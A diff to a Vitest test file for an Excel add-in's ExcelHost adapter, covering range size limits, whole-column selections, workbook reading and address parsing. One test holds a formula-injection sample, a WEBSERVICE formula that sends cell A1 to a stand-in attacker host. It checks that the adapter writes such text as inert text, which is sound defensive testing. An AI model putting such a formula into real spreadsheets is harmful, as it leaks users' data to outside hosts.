@@ -2,23 +2,41 @@ import { OfficeMockObject } from "office-addin-mock";
 import { beforeEach, describe, expect, it } from "vitest";
 import { formatAddress, parseAddress, cellBelow, columnName } from "../src/hosts/address";
 import { ExcelHost } from "../src/hosts/excel";
+import { describeProblem } from "../src/ui/problems";
 
 let mock: any; // eslint-disable-line @typescript-eslint/no-explicit-any
 let requested: string[];
+/** What the selection's intersection with the used range is (by default the selection itself lies inside the data). */
+let intersection: unknown;
+
+/** A range handed back by a method call at run time (the mock only wraps its initial tree). */
+function plainRange(address: string, rows: number, columns: number, isNullObject = false) {
+  return { address, rowCount: rows, columnCount: columns, isNullObject, values: [[""]] as unknown[][], formulas: [[""]] as unknown[][], load() {} };
+}
 
 /** A workbook whose Sheet1 holds A1:A3 (selected) and the cells the adapter may target, all real mock objects. */
 function install() {
   requested = [];
+  intersection = undefined;
   const cell = (address: string, value: unknown = "", formula: unknown = value) => ({ address, values: [[value]], formulas: [[formula]] });
   mock = new OfficeMockObject({
     context: {
       workbook: {
-        selected: { address: "Sheet1!A1:A3", values: [[1], [2], [3]], formulas: [[1], [2], ["=A1+A2-A1"]] },
+        selected: {
+          address: "Sheet1!A1:A3",
+          rowCount: 3,
+          columnCount: 1,
+          values: [[1], [2], [3]],
+          formulas: [[1], [2], ["=A1+A2-A1"]],
+          getIntersectionOrNullObject() {
+            return intersection ?? this;
+          },
+        },
         getSelectedRange() {
           return this.selected;
         },
         sheet: {
-          used: { address: "Sheet1!A1:B3", values: [[1, "x"], [2, "y"], [3, "z"]], formulas: [[1, "x"], [2, "y"], [3, "z"]] },
+          used: { address: "Sheet1!A1:B3", rowCount: 3, columnCount: 2, values: [[1, "x"], [2, "y"], [3, "z"]], formulas: [[1, "x"], [2, "y"], [3, "z"]] },
           ranges: {
             A4: cell("Sheet1!A4"),
             C1: cell("Sheet1!C1", "old", "old"),
@@ -31,6 +49,9 @@ function install() {
             return range;
           },
           getUsedRange() {
+            return this.used;
+          },
+          getUsedRangeOrNullObject() {
             return this.used;
           },
         },
@@ -67,6 +88,48 @@ describe("ExcelHost.readInput", () => {
     const input = await new ExcelHost().readInput("document");
     expect(input.range?.address).toBe("Sheet1!A1:B3");
   });
+
+  it("reads only the cells with data of a whole-column selection", async () => {
+    mock.context.workbook.selected.address = "Sheet1!A:A";
+    mock.context.workbook.selected.rowCount = 1048576;
+    intersection = mock.context.workbook.sheet.used;
+    const input = await new ExcelHost().readInput("selection");
+    expect(input.range).toEqual({ address: "Sheet1!A1:B3", values: [[1, "x"], [2, "y"], [3, "z"]], formulas: [[1, "x"], [2, "y"], [3, "z"]] });
+  });
+
+  it("refuses a range too large to send, with a message saying what to do, before loading its values", async () => {
+    intersection = plainRange("Sheet1!A1:Z200000", 200000, 26);
+    const problem = await new ExcelHost().readInput("selection").catch((error: unknown) => error);
+    expect(problem).toMatchObject({ code: "range_too_large" });
+    expect(describeProblem(problem).message).toMatch(/5,200,000 cells.*at most 100,000/);
+  });
+
+  it("reads an empty selection outside the data as it is (write_formula needs only the instructions)", async () => {
+    intersection = plainRange("", 0, 0, true);
+    const input = await new ExcelHost().readInput("selection");
+    expect(input.range?.address).toBe("Sheet1!A1:A3");
+  });
+});
+
+describe("ExcelHost.readWorkbook", () => {
+  /** Plain objects: the workbook's sheets come back from method calls at run time. */
+  function installSheets(sheets: { name: string; range: ReturnType<typeof plainRange> }[]) {
+    const worksheets = { items: sheets.map(({ name, range }) => ({ name, getUsedRangeOrNullObject: () => range })), load() {} };
+    Object.assign(globalThis, { Excel: { run: (callback: (context: unknown) => unknown) => callback({ workbook: { worksheets }, sync: async () => undefined }) } });
+  }
+
+  it("reads each sheet with data as {name, range} for analyze_workbook", async () => {
+    const sales = { ...plainRange("Sales!A1:B2", 2, 2), values: [["Month", "Revenue"], ["Jan", 10]], formulas: [["Month", "Revenue"], ["Jan", 10]] };
+    installSheets([{ name: "Sales", range: sales }, { name: "Empty", range: plainRange("", 0, 0, true) }]);
+    expect(await new ExcelHost().readWorkbook()).toEqual({
+      sheets: [{ name: "Sales", range: { address: "Sales!A1:B2", values: sales.values, formulas: sales.formulas } }],
+    });
+  });
+
+  it("refuses a workbook over the cell limit", async () => {
+    installSheets([{ name: "A", range: plainRange("A!A1:J60000", 60000, 10) }]);
+    await expect(new ExcelHost().readWorkbook()).rejects.toMatchObject({ code: "range_too_large" });
+  });
 });
 
 describe("ExcelHost writes", () => {
@@ -99,6 +162,16 @@ describe("ExcelHost writes", () => {
     expect(c1.formulas).toEqual([["old"]]);
   });
 
+  it("writes text that Excel would take for a formula (=, +, -, @) as text; numbers stay numbers", async () => {
+    const host = new ExcelHost();
+    const table = { values: [['=WEBSERVICE("https://evil.example/?"&A1)', "-5"], ["+A1", "- a bullet point"]] };
+    await host.write({ mode: "replace", skill: { id: "clean_data", output: "table" }, text: "", output: table, target: "B2" });
+    expect(mock.context.workbook.sheet.ranges["B2:C3"].values).toEqual([
+      ['\'=WEBSERVICE("https://evil.example/?"&A1)', "-5"],
+      ["'+A1", "'- a bullet point"],
+    ]);
+  });
+
   it("writes a 2D table sized to the data and undo brings back formulas as well as constants", async () => {
     const host = new ExcelHost();
     const table = { values: [["n", "m"], [1, 2]] };
@@ -116,6 +189,11 @@ describe("A1 addresses", () => {
     const block = parseAddress("'Q1 ''figures'''!$B$2:D10");
     expect(block).toEqual({ sheet: "Q1 'figures'", row: 1, column: 1, rows: 9, columns: 3 });
     expect(formatAddress(block)).toBe("'Q1 ''figures'''!B2:D10");
+  });
+
+  it("reads whole-column and whole-row selections, so Replace writes from their first cell", () => {
+    expect(parseAddress("Sheet1!B:C")).toEqual({ sheet: "Sheet1", row: 0, column: 1, rows: 1048576, columns: 2 });
+    expect(parseAddress("Sheet1!$2:$3")).toEqual({ sheet: "Sheet1", row: 1, column: 0, rows: 2, columns: 16384 });
   });
 
   it("names columns past Z and finds the cell below a block", () => {
